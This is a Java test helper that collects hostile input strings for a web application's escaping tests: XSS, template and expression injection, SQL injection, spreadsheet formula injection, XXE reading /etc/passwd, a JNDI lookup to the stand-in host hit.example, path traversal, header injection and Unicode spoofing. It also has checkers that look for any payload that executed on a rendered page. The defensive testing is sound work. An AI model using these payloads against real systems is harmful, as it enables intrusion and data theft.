package org.roundtable.web;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.select.NodeVisitor;

/**
 * What somebody may type who means harm, and how a page shows that none of it came alive. Each that runs would call {@code __hit} or
 * load from {@code hit.example}; each that is worked out would be {@value #PRODUCT}.
 */
final class HostileWords {

    /** 1234 times 5678: nobody types it. */
    static final String PRODUCT = "7006652";

    static final List<String> SCRIPTS = List.of(
            "<script>window.__hit=1</script>",
            "\"><script>window.__hit=1</script>",
            "'><img src=x onerror=window.__hit=1>",
            "<svg/onload=window.__hit=1>",
            "</textarea><script>window.__hit=1</script>",
            "</title><script>window.__hit=1</script>",
            "</script><script>window.__hit=1</script>",
            "--><script>window.__hit=1</script><!--",
            "]]><script>window.__hit=1</script>",
            "\" onmouseover=\"window.__hit=1\" x=\"",
            "' autofocus onfocus='window.__hit=1",
            "javascript:window.__hit=1",
            "data:text/html,<script>window.__hit=1</script>",
            "<a href=javascript:window.__hit=1>here</a>",
            "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
            "<iframe src=//hit.example></iframe>",
            "<base href=//hit.example/>",
            "<meta http-equiv=refresh content='0;url=//hit.example'>",
            "<form action=//hit.example><button>Go on</button></form>",
            "<style>@import'//hit.example'</style>",
            "<link rel=stylesheet href=//hit.example/a.css>",
            "<math><mtext><mglyph><style><img src=x onerror=window.__hit=1>",
            "<object data=//hit.example></object>",
            "<details open ontoggle=window.__hit=1>",
            "<template><img src=x onerror=window.__hit=1></template>",
            "\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e",
            "&lt;script&gt;window.__hit=1&lt;/script&gt;",
            "&#60;img src=x onerror=window.__hit=1&#62;");

    static final List<String> EXPRESSIONS = List.of(
            "${1234*5678}",
            "#{1234*5678}",
            "*{1234*5678}",
            "@{1234*5678}",
            "~{1234*5678}",
            "__${1234*5678}__",
            "__${T(java.lang.Runtime).getRuntime().exec('hit')}__::.x",
            "[[${1234*5678}]]",
            "[(${1234*5678})]",
            "|${1234*5678}|",
            "%{1234*5678}",
            "%{(#_='multipart/form-data').(#x=1234*5678)}",
            "{{1234*5678}}",
            "{{constructor.constructor('window.__hit=1')()}}",
            "<%= 1234*5678 %>",
            "<#assign x=1234*5678>${x}",
            "#set($x=1234*5678)$x",
            "{% 1234*5678 %}",
            "${jndi:ldap://hit.example/a}",
            "${sys:user.home}",
            "{0} {1,number,#} '{2}' ''",
            "${roundtableClock}",
            "#{@roundtableClock}",
            "T(java.lang.System).exit(1)");

    static final List<String> QUERIES = List.of(
            "'; drop table rt_entry; --",
            "\"; delete from rt_entry; --",
            "' or '1'='1",
            "1) or (1=1",
            "a' union select token_hash from rt_link --",
            "\\'; --",
            "%' escape '\\",
            "_%_%");

    static final List<String> CELLS = List.of(
            "=1234*5678",
            "+1234*5678",
            "-1234*5678",
            "@SUM(1234*5678)",
            "\t=1234*5678",
            "=HYPERLINK(\"http://hit.example\",\"Open\")",
            "=cmd|' /C calc'!A0");

    static final List<String> DOCUMENTS = List.of(
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY hit SYSTEM \"file:///etc/passwd\">]><a>&hit;</a>",
            "<!DOCTYPE a [<!ENTITY % hit SYSTEM \"http://hit.example/a.dtd\">%hit;]>",
            "<![CDATA[<script>window.__hit=1</script>]]>",
            "{\"@type\":\"java.lang.Runtime\",\"__proto__\":{\"__hit\":1}}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==");

    static final List<String> PLACES = List.of(
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "file:///etc/passwd",
            "//hit.example/a",
            "/roundtable/cases/../manage",
            "CON.txt",
            "a.html;.png");

    static final List<String> HEADERS = List.of(
            "a\r\nSet-Cookie: hit=1",
            "a\nLocation: http://hit.example",
            "a%0d%0aSet-Cookie:%20hit=1",
            "a\u2028Set-Cookie: hit=1",
            "a\u0085Set-Cookie: hit=1");

    static final List<String> SIGNS = List.of(
            "left \u202Eright to left\u202C left",
            "unclosed \u202Eevil.exe",
            "isolate \u2067never closed",
            "zero\u200Bwidth\u200Djoined\u2060word\uFEFF",
            "Z\u0351\u036B\u0343\u036A" + "\u0300\u0301\u0302\u0303".repeat(15) + " flood",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC77\uDB40\uDC6C\uDB40\uDC73\uDB40\uDC7F",
            "\u1E9E\u0130\u0131\uFB01\uFDFA Stra\u00DFe",
            "\u0627\u0644\u0633\u0644\u0627\u0645 \u05E9\u05DC\u05D5\u05DD \u4F60\u597D",
            "\u0001\u0007\u001B[31m\u007F",
            "\uFFFE\uFFFF");

    /** What no keyboard makes: it is left out, or shown as a sign that could not be read. */
    static final List<String> UNKEPT = List.of("nul\0nul", "half \uD83D pair", "\uDC00 half");

    private static final List<String> OURS = List.of("__hit", "hit.example");

    private HostileWords() {}

    static List<String> all() {
        List<String> all = new ArrayList<>();
        List.of(SCRIPTS, EXPRESSIONS, QUERIES, CELLS, DOCUMENTS, PLACES, HEADERS, SIGNS, UNKEPT)
                .forEach(all::addAll);
        return all;
    }

    /** All of them in one text, a line each. */
    static String text() {
        return String.join("\n", all());
    }

    /** What a keyboard can make; a bar would be taken for the end of an answer by our own way of filling in. */
    static String typed() {
        return java.util.stream.Stream.of(SCRIPTS, EXPRESSIONS, CELLS, DOCUMENTS)
                .flatMap(List::stream)
                .collect(Collectors.joining("\n"))
                .replace("|", "");
    }

    /** All of them in as few lines as fit where a line is asked for. */
    static List<String> lines(int longest) {
        List<String> lines = new ArrayList<>();
        StringBuilder line = new StringBuilder();
        for (String words : all()) {
            if (line.length() + words.length() + 1 > longest) {
                lines.add(line.toString());
                line.setLength(0);
            }
            line.append(line.isEmpty() ? "" : " ").append(words);
        }
        lines.add(line.toString());
        return lines;
    }

    /** What is kept of a text: all of it, but what no keyboard makes and blanks around it. */
    static String kept(String typed) {
        StringBuilder kept = new StringBuilder();
        typed.replace("\0", "")
                .codePoints()
                .map(sign -> Character.MIN_SURROGATE <= sign && sign <= Character.MAX_SURROGATE ? 0xFFFD : sign)
                .forEach(kept::appendCodePoint);
        return kept.toString().strip();
    }

    /** The same as a page shows it again, which has a question mark for half a character. */
    static String shown(String typed) {
        return kept(typed).replace('\uFFFD', '?');
    }

    /** What of it came alive on a page: nothing, if all is well. */
    static List<String> alive(Document page) {
        List<String> alive = new ArrayList<>();
        page.traverse((NodeVisitor) (node, depth) -> {
            if (node instanceof Element element) {
                alive.addAll(alive(element));
            } else if (node instanceof Comment comment && isOurs(comment.getData())) {
                alive.add("comment " + comment.getData());
            }
        });
        if (page.wholeText().contains(PRODUCT)) {
            alive.add("worked out: " + PRODUCT);
        }
        return alive;
    }

    private static List<String> alive(Element element) {
        List<String> alive = new ArrayList<>();
        String tag = element.normalName();
        if (tag.matches("iframe|object|embed|base|math|template|frame|applet")
                || tag.matches("script|style") && isOurs(element.data())) {
            alive.add("element " + cut(element.outerHtml()));
        }
        element.attributes().forEach(attribute -> {
            String name = attribute.getKey().toLowerCase(Locale.ROOT);
            String value = attribute.getValue();
            boolean typed = name.equals("value") && tag.matches("input|option|button");
            if (name.startsWith("on")
                    || name.equals("srcdoc")
                    || value.contains(PRODUCT)
                    || !typed && (isOurs(value) || value.strip().startsWith("javascript:"))) {
                alive.add("attribute " + name + "=" + cut(value) + " of " + tag);
            }
        });
        return alive;
    }

    private static boolean isOurs(String text) {
        return OURS.stream().anyMatch(text::contains);
    }

    private static String cut(String text) {
        return text.length() > 160 ? text.substring(0, 160) : text;
    }

    /** A header may hold neither a new line nor what was to become one. */
    static List<String> inHeaders(org.springframework.mock.web.MockHttpServletResponse answer) {
        return answer.getHeaderNames().stream()
                .flatMap(name -> answer.getHeaders(name).stream().map(value -> name + ": " + value))
                .filter(line ->
                        line.chars().anyMatch(Character::isISOControl) || line.contains("hit=1") || isOurs(line))
                .collect(Collectors.toList());
    }
}
